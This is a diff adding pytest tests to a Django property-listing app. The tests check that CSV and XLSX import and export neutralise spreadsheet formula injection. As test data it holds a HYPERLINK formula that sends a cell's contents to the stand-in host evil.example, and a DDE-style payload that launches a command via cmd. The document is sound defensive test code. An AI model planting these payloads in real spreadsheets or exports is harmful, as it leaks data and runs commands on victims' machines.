@@ -92,3 +92,104 @@ def test_a_manager_sees_and_edits_webhooks(client):
     html = client.get(change_url(other)).content.decode()
     assert "TOKEN-OF-THE-OTHER-AGENT" in html and SECRET in html
     assert Agent.objects.get(pk=other.pk).webhook_secret == SECRET
+
+
+# ---- 2. formula-looking text: stored as text on import, escaped on every export --------
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
+
+
+def csv_upload(text):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    return SimpleUploadedFile("rows.csv", text.encode("utf-8"), content_type="text/csv")
+
+
+def format_index(client, model, label, action="import"):
+    import re
+
+    html = client.get(f"/admin/listings/{model}/{action}/").content.decode()
+    options = re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', html)
+    return next(value for value, text in options if text.strip().lower() == label)
+
+
+def import_csv(client, model, text):
+    response = client.post(
+        f"/admin/listings/{model}/import/",
+        {
+            "import_file": csv_upload(text),
+            "format": format_index(client, model, "csv"),
+            "resource": "0",
+        },
+    )
+    assert response.context["confirm_form"] is not None, response.content.decode()[:2000]
+    client.post(
+        f"/admin/listings/{model}/process_import/", response.context["confirm_form"].initial
+    )
+
+
+def export(client, model, label):
+    response = client.get(f"/admin/listings/{model}/export/")
+    form = response.context["form"]
+    data = {"format": format_index(client, model, label, "export"), "resource": "0"}
+    wanted = tuple(f"_{name}" for name in ("code", "title", "location"))
+    for name in form.fields:
+        if name.endswith(wanted):
+            data[name] = "on"
+    response = client.post(f"/admin/listings/{model}/export/", data)
+    assert response.status_code == 200, response.content.decode()[:2000]
+    return response.content
+
+
+ROWS = {
+    "listing": (
+        "code,title,kind,deal,building_area,rent_price\nF-1,{},factory,rent,900,1.1\n",
+        "title",
+    ),
+    "landparcel": (
+        "code,location,town,land_use,area,starting_price,method,bidding_opens_at,bidding_closes_at\n"
+        "YF-19-001,{},永丰街道,工业用地,11875.3,1104,挂牌,2030-03-20 09:00,2030-03-30 15:00\n",
+        "location",
+    ),
+}
+
+
+@pytest.mark.parametrize("model", ["listing", "landparcel"])
+def test_formula_text_is_imported_as_text_and_exported_escaped(client, model):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from listings.models import LandParcel, Listing
+
+    manager, _ = staff_in("managers")
+    client.force_login(manager)
+    template, field = ROWS[model]
+    quoted = '"' + EVIL.replace('"', '""') + '"'
+    import_csv(client, model, template.format(quoted))
+    Model = Listing if model == "listing" else LandParcel
+    assert getattr(Model.objects.get(), field) == EVIL  # stored as the text it is
+
+    rows = list(csv.reader(io.StringIO(export(client, model, "csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + EVIL in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+    sheet = load_workbook(io.BytesIO(export(client, model, "xlsx"))).active
+    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+    assert "'" + EVIL in [cell.value for cell in values]
+    assert all(cell.data_type != "f" for cell in values)  # no live formula
+
+    # The escaped export imports back to the same text.
+    Model.objects.all().delete()
+    import_csv(client, model, template.format("\"'" + EVIL.replace('"', '""') + '"'))
+    assert getattr(Model.objects.get(), field) == EVIL
+
+
+@pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_prefix_is_escaped(text):
+    from listings.resources import escape_formula
+
+    assert escape_formula(text) == "'" + text
+    assert escape_formula("-12.5") == "-12.5" and escape_formula("新桥") == "新桥"
